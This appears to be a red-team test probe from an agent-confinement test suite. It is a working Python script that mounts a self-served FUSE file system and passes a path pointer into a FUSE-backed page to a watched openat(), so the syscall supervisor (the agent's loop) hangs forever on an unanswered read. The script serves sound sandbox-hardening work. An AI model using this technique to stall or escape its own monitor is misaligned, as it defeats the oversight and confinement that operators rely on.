# Red-team probe (tests/suite_rt_confine.sh, finding RC2): a command that makes the watch's
# supervisor (the agent's loop) wait forever.
# It mounts a FUSE file system it serves itself (root: mount(2) is not watched; a user would run
# fusermount3), maps a file of it, and passes an address inside that mapping as the path of a
# watched openat().  The supervisor reads the path from /proc/PID/mem: the page fault becomes a
# FUSE READ that this process never answers.  argv[1]: an existing empty directory to mount on.
import ctypes, os, struct, sys, threading
l = ctypes.CDLL(None, use_errno=True)
mnt = sys.argv[1].encode()
fd = os.open("/dev/fuse", os.O_RDWR)
opts = b"fd=%d,rootmode=40000,user_id=0,group_id=0" % fd
if l.mount(b"rtfuse", mnt, b"fuse", 6, opts) != 0:  # MS_NOSUID|MS_NODEV
    print("mount failed", ctypes.get_errno(), flush=True); sys.exit(1)

def attr(ino, mode, size):
    return struct.pack("<QQQQQQIIIIIIIIII", ino, size, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

def reply(unique, err=0, body=b""):
    os.write(fd, struct.pack("<IiQ", 16 + len(body), err, unique) + body)

def serve():
    while True:
        try:
            req = os.read(fd, 1 << 20)
        except OSError:
            return
        ln, op, unique, node = struct.unpack_from("<IIQQ", req)
        if op == 26:  # INIT
            reply(unique, 0, struct.pack("<IIIIHHIIHHII", 7, 31, 0, 0, 0, 0, 4096, 0, 0, 0, 0, 0) + b"\0" * 24)
        elif op == 1:  # LOOKUP
            reply(unique, 0, struct.pack("<QQQQII", 2, 0, 60, 60, 0, 0) + attr(2, 0o100644, 4096))
        elif op == 3:  # GETATTR
            reply(unique, 0, struct.pack("<QII", 60, 0, 0) + (attr(1, 0o40755, 0) if node == 1 else attr(2, 0o100644, 4096)))
        elif op == 14:  # OPEN
            reply(unique, 0, struct.pack("<QIi", 1, 0, 0))
        elif op == 15:  # READ: never answered
            print("FUSE READ held", flush=True)
        elif op in (25, 18, 2, 36):  # FLUSH, RELEASE, FORGET, INTERRUPT
            if op in (25, 18):
                reply(unique)
        else:
            reply(unique, -38)

threading.Thread(target=serve, daemon=True).start()
f = os.open(os.path.join(sys.argv[1], "f"), os.O_RDONLY)
l.mmap.restype = ctypes.c_void_p
l.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
addr = l.mmap(None, 4096, 1, 1, f, 0)  # PROT_READ, MAP_SHARED
print("mapped; openat(path in the FUSE page) ...", flush=True)
r = l.syscall(257, -100, ctypes.c_void_p(addr), 0o1101, 0o644)  # O_WRONLY|O_CREAT|O_TRUNC
print("openat returned", r, flush=True)
